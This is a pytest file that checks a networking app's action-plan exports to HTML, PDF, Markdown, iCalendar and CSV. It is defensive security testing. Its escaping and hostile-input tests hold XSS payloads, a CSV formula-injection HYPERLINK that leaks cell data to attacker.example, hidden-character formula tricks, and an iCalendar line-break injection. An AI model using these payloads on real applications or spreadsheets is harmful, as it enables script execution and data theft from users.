"""Exports of the action plan, read back: HTML, PDF, Markdown, iCalendar and CSV.

The hostile test at the end builds a plan from ../shared/fixtures/hostile_* (repo
copies in tests/fixtures/vendor) and checks that what the person typed stays
text in every format.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

from leadnet_helpers import export
from leadnet_helpers.errors import LeadNetError
from leadnet_helpers.export import (
    PLAN_CSV_COLUMNS,
    markdown_escape,
    plan_csv,
    plan_html,
    plan_ics,
    plan_markdown,
    plan_pdf,
    safe_cell,
    write_plan,
)
from leadnet_helpers.export import pdf as export_pdf
from leadnet_helpers.findings import Concerned, Finding
from leadnet_helpers.model import Contact, Profile
from leadnet_helpers.network import network_from
from leadnet_helpers.plan import Action, Plan, build_plan, custom_action

icalendar = pytest.importorskip("icalendar")

TODAY = date(2026, 11, 21)
STAMP = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "vendor"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class Page(HTMLParser):
    """Every element with its attributes, and the text outside scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if not self._in_script:
            self.text.append(data)

    def tags(self, name: str) -> list[dict[str, str | None]]:
        return [a for t, a in self.elements if t == name]

    @property
    def plain(self) -> str:
        return " ".join(" ".join(self.text).split())


def parse(page: str) -> Page:
    parser = Page()
    parser.feed(page)
    parser.close()
    return parser


def assert_loads_nothing(page: Page) -> None:
    """No src/href leaves the page: each is absent, data: or a #fragment."""
    for tag, attrs in page.elements:
        for name in ("src", "href", "xlink:href", "action", "srcset", "poster", "data"):
            value = attrs.get(name)
            if value is not None:
                assert value.startswith(("data:", "#")), (tag, name, value)
        assert tag not in ("link", "iframe", "object", "embed", "base", "img"), tag


def _findings() -> list[Finding]:
    return [
        Finding(
            "balance",
            "Balance of the three networks",
            {"operational": 0.6, "personal": 0.3, "strategic": 0.1},
            "Only 10% of your network is strategic.",
            True,
            0.8,
            "Leaders need all three.",
            "Ibarra & Hunter (2007)",
            {"target": {"operational": 0.4, "personal": 0.3, "strategic": 0.3}},
        ),
        Finding(
            "keep_warm",
            "Keeping ties warm",
            1,
            "Robert Hale is losing touch.",
            True,
            0.6,
            "A network is a muscle.",
            "Ibarra & Hunter (2007)",
            {},
            (
                Concerned(
                    "losing_touch",
                    1,
                    "Robert Hale",
                    "strategic",
                    "strategic, last contact 7 months ago",
                ),
            ),
        ),
        Finding(
            "give_and_take",
            "Give and take",
            0.2,
            "You ask more than you give.",
            True,
            0.5,
            "Reciprocity.",
            "Baker (2000)",
        ),
        Finding("diversity", "Diversity", 0.7, "Varied.", False, 0.0, "Blau.", "Blau (1977)"),
    ]


@pytest.fixture
def plan() -> Plan:
    made = build_plan(_findings(), today=TODAY, person="Ana Lima")
    made.add(custom_action("Lunch with the CFO", TODAY + timedelta(days=5), cadence="monthly"))
    return made


# --------------------------------------------------------------------------- HTML


def test_html_is_self_contained_and_holds_the_plan(plan):
    page = plan_html(plan)
    parsed = parse(page)
    assert_loads_nothing(parsed)
    assert not parsed.tags("script"), "no script without interactive charts"
    csp = [a for a in parsed.tags("meta") if a.get("http-equiv") == "Content-Security-Policy"]
    assert csp and "default-src 'none'" in csp[0]["content"]
    text = parsed.plain
    assert "Action plan for Ana Lima" in text and "21 November 2026" in text
    assert "Balance of the three networks" in text and "Only 10% of your network" in text
    for action in plan.actions:
        assert " ".join(action.title.split()) in text
    assert "Robert Hale (strategic, last contact 7 months ago)" in text
    assert "Lunch with the CFO" in text
    assert len(parsed.tags("svg")) == 2, "gaps and mix charts, inline"
    assert "@media print" in page and "@page" in page


def test_html_embeds_plotly_once_for_all_figures(plan):
    go = pytest.importorskip("plotly.graph_objects")
    hostile = "</script><script>alert(1)</script>"
    figures = {
        "Mix": go.Figure(go.Bar(x=["a", hostile], y=[1, 2])),
        "Ties": go.Figure(go.Scatter(x=[1, 2], y=[2, 1], name=hostile)),
    }
    page = plan_html(plan, figures)
    parsed = parse(page)
    assert_loads_nothing(parsed)
    scripts = parsed.tags("script")
    assert all("src" not in s for s in scripts)
    assert page.count("plotly.js v") <= 2 and len(page) > 3_000_000  # the library, inlined
    big = [chunk for chunk in page.split("<script") if len(chunk) > 1_000_000]
    assert len(big) == 1, "plotly.js inlined once"
    ids = [a.get("id") for _, a in parsed.elements if (a.get("id") or "").startswith("leadnet")]
    assert ids == ["leadnet-chart-1", "leadnet-chart-2"]
    assert hostile not in page
    assert plan_html(plan, figures) == page, "deterministic"
    assert 'class="interactive"' in page, "screen only: the printout keeps the static charts"
    assert 'class="interactive print-figures"' in plan_html(plan, figures, print_figures=True)


@pytest.mark.browser
def test_the_html_renders_its_charts_offline_and_prints_to_three_pages_at_most(
    plan, tmp_path, chromium
):
    go = pytest.importorskip("plotly.graph_objects")
    figures = {
        "Mix": go.Figure(go.Bar(x=["a", "b"], y=[1, 2])),
        "Many": go.Figure(go.Scattergl(x=list(range(3000)), y=list(range(3000)))),
    }
    path = write_plan(plan, tmp_path, figures, formats=["html"])["html"]
    context = chromium.new_context()
    page = context.new_page()
    requests, errors = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(path.as_uri())
    page.wait_for_selector("#leadnet-chart-2 .main-svg", timeout=15000)
    printed = page.pdf(format="A4")
    context.close()
    assert requests == [path.as_uri()], "nothing but the file itself"
    assert errors == []
    pages, text = _pdf_text(printed)
    assert 1 <= pages <= 3 and "Action plan for Ana Lima" in text


def test_html_escapes_everything_typed():
    plan = Plan(
        '<b onmouseover="x()">Ana</b>',
        TODAY,
        [
            {
                "key": "k",
                "title": "<i>t</i>",
                "reading": "a & b",
                "severity": "high",
                "score": 0.9,
                "is_gap": True,
            }
        ],
        [
            Action(
                "a",
                "<script>alert(1)</script>",
                why="x < y",
                who=[
                    {
                        "contact_id": 1,
                        "name": "<img src=x onerror=alert(1)>",
                        "detail": '"><svg onload=alert(1)>',
                    }
                ],
                due=TODAY,
            )
        ],
    )
    parsed = parse(plan_html(plan))
    assert not parsed.tags("script") and not parsed.tags("img") and not parsed.tags("b")
    assert all(not k.startswith("on") for _, a in parsed.elements for k in a)
    assert "<script>alert(1)</script>" in parsed.plain
    assert "<img src=x onerror=alert(1)>" in parsed.plain


# --------------------------------------------------------------------------- iCalendar


def test_ics_parses_with_the_right_events_rules_and_uids(plan):
    data = plan_ics(plan, stamp=STAMP)
    cal = icalendar.Calendar.from_ical(data)
    assert str(cal["VERSION"]) == "2.0" and "LeadNet" in str(cal["PRODID"])
    events = cal.walk("VEVENT")
    assert len(events) == len(plan.actions)
    for event, action in zip(events, plan.actions, strict=True):
        assert str(event["SUMMARY"]) == action.title
        assert event.decoded("DTSTART") == action.due
        assert event.decoded("DTEND") == action.due + timedelta(days=1)
        assert event.decoded("DTSTAMP") == STAMP
        if action.first_step:
            assert "First step: " + action.first_step in str(event["DESCRIPTION"])
        if action.cadence:
            rule = event["RRULE"]
            assert rule["FREQ"] == [action.rrule["FREQ"]]
            assert rule["COUNT"] == [action.rrule["COUNT"]]
        else:
            assert "RRULE" not in event
        assert event.walk("VALARM")
    uids = [str(e["UID"]) for e in events]
    assert len(set(uids)) == len(uids)
    again = icalendar.Calendar.from_ical(plan_ics(plan)).walk("VEVENT")
    assert [str(e["UID"]) for e in again] == uids, "stable per action"
    monthly = next(e for e in events if str(e["SUMMARY"]) == "Lunch with the CFO")
    assert monthly["RRULE"]["FREQ"] == ["MONTHLY"]
    lines = data.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines), "folded (RFC 5545 3.1)"
    with_backlog = icalendar.Calendar.from_ical(plan_ics(plan, include_backlog=True))
    assert len(with_backlog.walk("VEVENT")) == len(plan.actions) + len(plan.backlog)


def test_ics_quarterly_rule_and_done_actions():
    plan = Plan(
        "Ana", TODAY, [], [Action("q", "Conference", due=TODAY, cadence="quarterly", status="done")]
    )
    event = icalendar.Calendar.from_ical(plan_ics(plan)).walk("VEVENT")[0]
    assert event["RRULE"]["FREQ"] == ["MONTHLY"] and event["RRULE"]["INTERVAL"] == [3]
    assert str(event["SUMMARY"]) == "Done: Conference"


# --------------------------------------------------------------------------- CSV and Markdown


def test_csv_reads_back_one_row_per_action(plan):
    rows = list(csv.DictReader(io.StringIO(plan_csv(plan))))
    assert tuple(rows[0]) == PLAN_CSV_COLUMNS
    assert len(rows) == len(plan.actions) + len(plan.backlog)
    assert [r["title"] for r in rows[: len(plan.actions)]] == [a.title for a in plan.actions]
    assert {r["section"] for r in rows} == {"this month", "backlog"}
    first = rows[0]
    assert first["due"] == plan.actions[0].due.isoformat()


def test_markdown_holds_the_plan_and_escapes_markup(plan):
    text = plan_markdown(plan)
    assert text.startswith("# Action plan for Ana Lima\n")
    assert "## Your actions this month" in text and "## Backlog: for later" in text
    assert "Robert Hale (strategic, last contact 7 months ago)" in text
    assert markdown_escape("*a* _b_ [c](d) `e` <f> | # ~") == (
        "\\*a\\* \\_b\\_ \\[c\\](d) \\`e\\` &lt;f&gt; \\| \\# \\~"
    )
    assert markdown_escape("1. x\nsecond line") == "1\\. x second line"


# --------------------------------------------------------------------------- PDF


def _pdf_text(data: bytes) -> tuple[int, str]:
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    return len(reader.pages), " ".join(text.split())


def test_pdf_has_the_plans_text_on_one_to_three_pages(plan):
    pytest.importorskip("weasyprint")
    data = plan_pdf(plan, engine="weasyprint")
    assert data.startswith(b"%PDF-")
    pages, text = _pdf_text(data)
    assert 1 <= pages <= 3
    assert "Action plan for Ana Lima" in text
    for action in plan.actions:
        assert " ".join(action.title.split())[:30] in text
    assert "Robert Hale" in text


@pytest.mark.slow
@pytest.mark.skipif(
    not (shutil.which("chromium") or Path("/usr/bin/chromium").exists()), reason="needs Chromium"
)
def test_pdf_falls_back_to_chromium(plan, monkeypatch):
    def broken(page: str) -> bytes:
        raise OSError("cannot load library 'pango-1.0-0'")

    monkeypatch.setattr(export_pdf, "_weasyprint_pdf", broken)
    data = plan_pdf(plan)
    assert data.startswith(b"%PDF-")
    pages, text = _pdf_text(data)
    assert 1 <= pages <= 3 and "Action plan for Ana Lima" in text


def test_pdf_without_any_renderer_says_how_to_fix(plan, monkeypatch):
    def broken(page: str) -> bytes:
        raise OSError("cannot load library 'pango-1.0-0'")

    monkeypatch.setattr(export_pdf, "_weasyprint_pdf", broken)
    monkeypatch.setattr(export_pdf, "_CHROMIUM", ())
    monkeypatch.setattr(export_pdf.shutil, "which", lambda name: None)
    monkeypatch.delenv("LEADNET_CHROMIUM", raising=False)
    with pytest.raises(LeadNetError, match="WeasyPrint") as err:
        plan_pdf(plan)
    assert "plan.html" in str(err.value)
    with pytest.raises(LeadNetError):
        plan_pdf(plan, engine="weasyprint")


# --------------------------------------------------------------------------- all five


def test_write_plan_writes_five_files_atomically(plan, tmp_path):
    pytest.importorskip("weasyprint")
    out = write_plan(plan, tmp_path / "out", stamp=STAMP)
    assert set(out) == {"html", "pdf", "md", "ics", "csv"}
    assert {p.name for p in out.values()} == {
        "plan.html",
        "plan.pdf",
        "plan.md",
        "plan.ics",
        "plan.csv",
    }
    assert sorted(os.listdir(tmp_path / "out")) == sorted(p.name for p in out.values())
    assert out["csv"].read_bytes().startswith(b"\xef\xbb\xbf")
    assert out["ics"].read_bytes() == plan_ics(plan, stamp=STAMP)
    with pytest.raises(LeadNetError, match="docx"):
        write_plan(plan, tmp_path, formats=["docx"])


# --------------------------------------------------------------------------- hostile input


def _hostile_contacts() -> list[Contact]:
    from leadnet_helpers.importers import parse_file

    contacts = []
    for name in ("hostile_html_injection.csv", "hostile_formula_injection.csv"):
        contacts += [c for _, c in parse_file(FIXTURES / name).contacts]
    for number, contact in enumerate(contacts, 1):
        contact.id = number
        contact.network_type = ("strategic", "personal", "operational")[number % 3]
        contact.last_contact = "2025-01-15"
        contact.strength = 3 + number % 3
        contact.industry = "Same industry"
        contact.function = contact.role  # hostile too
        contact.inside_org = number % 2 == 0
    return contacts


def test_hostile_names_and_titles_stay_text_in_every_export(tmp_path):
    from leadnet_helpers.diagnostics import all_findings

    contacts = _hostile_contacts()
    person = contacts[0].name  # "<script>alert(1)</script> Mallory"
    net = network_from(Profile(person, function="=1+1"), contacts)
    plan = build_plan(all_findings(net, today=TODAY), TODAY, person=net.profile.name)
    titles = [c.role for c in contacts if c.role] + [c.organisation for c in contacts]
    for number, title in enumerate(titles):
        plan.add(
            custom_action(
                title,
                TODAY + timedelta(days=number % 20 + 1),
                who=[contacts[number % len(contacts)].name],
                first_step=contacts[(len(contacts) - 1 - number) % len(contacts)].name,
            ),
            backlog=number > 6,
        )
    named = {w["name"] for a in plan.all_actions() for w in a.who}
    assert person in named and any(n.startswith("=") for n in named)
    typed = [person, *titles, *named]

    formats = ["html", "md", "ics", "csv"]
    try:
        import weasyprint  # noqa: F401

        formats.append("pdf")
    except (ImportError, OSError):
        pass
    out = write_plan(plan, tmp_path, formats=formats, stamp=STAMP)

    # HTML: no element, attribute or load came from the text.
    page = out["html"].read_text(encoding="utf-8")
    parsed = parse(page)
    assert_loads_nothing(parsed)
    assert not parsed.tags("script") and not parsed.tags("style")[1:]
    assert not parsed.tags("img") and not parsed.tags("a")
    assert all(not k.startswith("on") for _, a in parsed.elements for k in a)
    assert len(parsed.tags("svg")) == len(export.plan_charts_svg(plan))
    assert "<script>alert(1)</script> Mallory" in parsed.plain
    assert "Action plan for <script>alert(1)</script> Mallory" in parsed.plain
    assert '<a href="javascript:alert(1)">click</a>' in parsed.plain

    # Markdown: escaped, and a renderer makes no element of it.
    md = out["md"].read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md and "<svg" not in md and "<a " not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Mallory" in md
    mistune = pytest.importorskip("mistune")
    rendered = parse(mistune.html(md))
    assert not rendered.tags("script") and not rendered.tags("img") and not rendered.tags("a")
    assert all(not k.startswith("on") for _, a in rendered.elements for k in a)
    assert "<script>alert(1)</script> Mallory" in rendered.plain

    # iCalendar: parses, and the titles come back exactly as typed.
    cal = icalendar.Calendar.from_ical(out["ics"].read_bytes())
    summaries = [str(e["SUMMARY"]) for e in cal.walk("VEVENT")]
    assert len(summaries) == len(plan.actions)
    assert set(summaries) == {a.title for a in plan.actions}
    assert any("<" in s or s.startswith("=") for s in summaries)

    # CSV: reads back, one row per action, no cell starts a formula.
    text = out["csv"].read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(plan.all_actions())
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    cells = {cell for row in rows for cell in row}
    hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for bonus") Smith'
    assert safe_cell(hyperlink) in cells
    assert "'=1+1" in cells and "'@Home Team Lead" in cells and "'-Director-" in cells

    # PDF: the hostile text is printed as text.
    if "pdf" in out:
        pages, pdf_text = _pdf_text(out["pdf"].read_bytes())
        assert pages >= 1
        assert "<script>alert(1)</script> Mallory" in pdf_text
    assert all(t for t in typed)
    assert any(t.startswith(FORMULA_START) for t in typed)


# --------------------------------------------------------------------------- CSV guard


@pytest.mark.parametrize("cell", ["\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋44 1", "\u2060@x"])
def test_formula_hidden_behind_invisible_or_fullwidth_characters_is_guarded(cell):
    assert safe_cell(cell) == "'" + cell


def test_the_contacts_export_reads_back_without_the_guards_apostrophe():
    from leadnet_helpers.export import csv_text
    from leadnet_helpers.importers import parse_bytes
    from leadnet_helpers.model import TEMPLATE_COLUMNS

    ana = Contact(
        name="Ana Lima",
        organisation="=Contoso",
        phone="+44 20 7946 0958",
        notes="@ana_lima",
        role="-lead-",
        industry="'tis as typed",
    )
    columns = ("id", *TEMPLATE_COLUMNS, "email", "linkedin_url", "phone", "source")
    text = csv_text([{**ana.to_row(), "id": 1}], columns)
    assert "'+44 20 7946 0958" in text and "'@ana_lima" in text
    (back,) = [c for _, c in parse_bytes(("\ufeff" + text).encode(), "contacts.csv").contacts]
    assert (back.phone, back.notes, back.organisation, back.role, back.industry) == (
        "+44 20 7946 0958",
        "@ana_lima",
        "=Contoso",
        "-lead-",
        "'tis as typed",
    )


def test_a_failing_writer_writes_no_plan_file_and_leaves_no_temporary_file(
    plan, tmp_path, monkeypatch
):
    from leadnet_helpers.export import plan_files

    def broken(*args, **kwargs):
        raise ValueError("calendar writer failed")

    monkeypatch.setattr(plan_files, "plan_ics", broken)
    with pytest.raises(ValueError):
        write_plan(plan, tmp_path, formats=["html", "md", "ics", "csv"], stamp=STAMP)
    assert list(tmp_path.iterdir()) == []


def test_a_failing_write_removes_the_temporary_files(plan, tmp_path, monkeypatch):
    from leadnet_helpers.export import files

    real = files.os.replace
    calls = []

    def full_disk(src, dst):
        calls.append(dst)
        if len(calls) == 1:
            raise OSError(28, "No space left on device")
        return real(src, dst)

    monkeypatch.setattr(files.os, "replace", full_disk)
    with pytest.raises(OSError):
        write_plan(plan, tmp_path, formats=["html", "md", "csv"], stamp=STAMP)
    assert list(tmp_path.iterdir()) == []


def test_ics_single_line_properties_hold_no_line_break():
    p = Plan(
        "Ana\r\nX-INJECTED:1",
        TODAY,
        [],
        [Action("a", "Call\nBo\x1b", due=TODAY + timedelta(days=3), why="one\r\ntwo\x00")],
    )
    data = plan_ics(p, stamp=STAMP)
    assert b"\nX-INJECTED" not in data and b"\x1b" not in data and b"\x00" not in data
    cal = icalendar.Calendar.from_ical(data)
    (event,) = cal.walk("VEVENT")
    assert str(event["SUMMARY"]) == "Call Bo"
    assert str(cal["X-WR-CALNAME"]) == "LeadNet action plan: Ana X-INJECTED:1"
    assert str(event["DESCRIPTION"]) == "Why: one\ntwo"
